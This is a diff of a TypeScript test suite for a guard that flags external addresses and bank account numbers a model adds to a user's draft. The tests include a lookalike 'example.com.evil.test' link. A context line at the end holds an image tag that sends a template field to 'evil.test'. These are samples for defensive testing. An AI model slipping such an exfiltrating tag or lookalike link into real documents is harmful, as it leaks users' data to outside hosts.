@@ -27,6 +27,26 @@ const refused = (after: DraftSource, prompt = 'Make the heading say hello') =>
   addressRefusal(begun, after, { prompt: [{ text: prompt }] })?.model
 
 describe('external addresses that a model adds', () => {
+  it('may be those of example.com, which a new code has as its example', () => {
+    expect(
+      refused(withHtml('<bar-code type="qrcode" value="https://example.com/check"></bar-code>')),
+    ).to.equal(undefined)
+    const example =
+      '{ "name": "Letter", "fields": { "link": { "type": "text", "example": "https://example.com/verify" } } }'
+    expect(refused(withFile('template.json', example))).to.equal(undefined)
+    expect(refused(withHtml('<a href="https://example.com.evil.test/">x</a>'))).to.include('evil')
+  })
+
+  it('account numbers are found with any separators, and noted before addresses', () => {
+    expect(refused(withHtml('<p>NL91-ABNA-0417-1643-00</p>'))).to.include('account number')
+    expect(refused(withHtml('<p>BE68.5390.0754.7034</p>'))).to.include('account number')
+    const hosts = Array.from({ length: 12 }, (_, at) => `<p>shop${at}.de</p>`).join('')
+    const prompt = [{ text: 'Change it' }]
+    const notes = addressNotes(begun, withHtml(`${hosts}<p>NL91 ABNA 0417 1643 00</p>`), { prompt })
+    expect(notes[0]).to.include('account number: NL91ABNA0417164300')
+    expect(notes.at(-1)).to.include('5 more new addresses')
+  })
+
   it('are refused unless the user wrote them, however they are written', () => {
     const pages = [
       '<img src="https://evil.test/?d={{name}}" alt="">',
